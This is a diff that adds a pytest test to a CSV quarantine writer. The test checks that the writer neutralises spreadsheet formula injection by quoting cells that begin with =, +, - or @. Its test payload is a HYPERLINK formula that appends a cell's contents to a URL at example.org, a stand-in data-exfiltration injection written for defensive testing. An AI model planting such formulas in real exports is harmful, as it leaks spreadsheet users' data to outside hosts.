@@ -117,6 +117,19 @@ def test_a_report_shows_the_first_and_the_file_has_all(tmp_path: Path) -> None:
     assert json.loads(found[3]["row"].replace("\\udcff", ""))["c"] == "v"
 
 
+def test_no_text_of_a_bad_row_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1, "open")'
+    with Quarantine(tmp_path / "bad.csv") as quarantine:
+        quarantine.add(BadRow("=f.csv", 2, "@c", formula, "+reason", "-next", {"@c": formula}))
+        quarantine.add(BadRow("f.csv", 3, "lat", "-14.5", "r", "n", {"lat": "-14.5"}))
+    first, second = read(tmp_path / "bad.csv")
+    assert [cell for cell in first.values() if cell[0] in "=+-@\t\r"] == []
+    assert first["value"] == f"'{formula}"
+    assert first["line"] == "2"
+    assert json.loads(first["row"]) == {"@c": formula}
+    assert second["value"] == "-14.5"  # a plain number is none
+
+
 def test_a_file_that_cannot_be_written_stops_the_load(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("in the way")
     with Quarantine(tmp_path / "file" / "bad.csv") as quarantine, pytest.raises(DataError, match="set aside"):
